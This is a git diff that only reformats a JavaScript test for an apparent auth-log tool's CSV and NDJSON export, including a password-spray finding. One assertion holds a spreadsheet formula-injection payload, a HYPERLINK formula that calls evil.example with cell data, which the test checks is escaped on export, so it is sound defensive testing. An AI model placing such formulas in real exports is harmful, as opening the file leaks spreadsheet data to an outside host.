@@ -28,7 +28,7 @@ const cliExport = (flag, files) => execFileSync(cliPath(), ['export', flag, ...f
 
 const csvRows = (text) => text.split('\r\n').slice(1, -1);
 
-test('export: CSV and NDJSON of every event equal the CLI\'s; of a selected finding, the table\'s rows and the fixture\'s records', async () => {
+test("export: CSV and NDJSON of every event equal the CLI's; of a selected finding, the table's rows and the fixture's records", async () => {
   const dir = tempDir('export');
   const hostile = path.join(dir, 'hostile.ndjson');
   fs.writeFileSync(hostile, HOSTILE);
@@ -40,7 +40,7 @@ test('export: CSV and NDJSON of every event equal the CLI\'s; of a selected find
 
       const all = await exportVia(app, 'export-csv');
       assert.match(all.name, /^authtrail-events-\d{8}T\d{6}Z\.csv$/);
-      assert.equal(all.text, cliExport('--csv', files), 'the page\'s CSV differs from `authtrail export --csv`');
+      assert.equal(all.text, cliExport('--csv', files), "the page's CSV differs from `authtrail export --csv`");
       assert.equal(csvRows(all.text).length, toInt(s0.tableCount, 'table-count'), 'one CSV row per matching event');
       const evil = csvRows(all.text).find((r) => r.includes('HYPERLINK'));
       assert.ok(evil.includes(',"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'), evil);
@@ -49,21 +49,34 @@ test('export: CSV and NDJSON of every event equal the CLI\'s; of a selected find
 
       const allJson = await exportVia(app, 'export-ndjson');
       assert.match(allJson.name, /^authtrail-events-\d{8}T\d{6}Z\.ndjson$/);
-      assert.equal(allJson.text, cliExport('--ndjson', files), 'the page\'s NDJSON differs from `authtrail export --ndjson` (plain and gzip files)');
+      assert.equal(allJson.text, cliExport('--ndjson', files), "the page's NDJSON differs from `authtrail export --ndjson` (plain and gzip files)");
 
       const spray = await showFinding(app, 'password-spray');
-      const s1 = await app.settleUi(() => spray.click(), (s) => toInt(s.tableCount, 'table-count') === 6, 'the spray finding selected');
+      const s1 = await app.settleUi(
+        () => spray.click(),
+        (s) => toInt(s.tableCount, 'table-count') === 6,
+        'the spray finding selected',
+      );
       const shown = toInt(s1.tableCount, 'table-count');
 
       const csv = await exportVia(app, 'export-csv');
       const rows = csvRows(csv.text);
       assert.equal(rows.length, shown, 'CSV rows of the selected finding');
-      assert.ok(rows.every((r) => r.includes(',203.0.113.250,')), rows.join('\n'));
+      assert.ok(
+        rows.every((r) => r.includes(',203.0.113.250,')),
+        rows.join('\n'),
+      );
 
       const ndjson = await exportVia(app, 'export-ndjson');
       const lines = ndjson.text.split('\n').slice(0, -1);
       assert.equal(lines.length, shown, 'NDJSON lines of the selected finding');
-      const originals = new Map(fs.readFileSync(STORY, 'utf8').split('\n').filter(Boolean).map((l) => [JSON.parse(l).id, JSON.parse(l)]));
+      const originals = new Map(
+        fs
+          .readFileSync(STORY, 'utf8')
+          .split('\n')
+          .filter(Boolean)
+          .map((l) => [JSON.parse(l).id, JSON.parse(l)]),
+      );
       for (const line of lines) {
         const record = JSON.parse(line);
         assert.deepEqual(record, originals.get(record.id), `not the fixture's record: ${line}`);
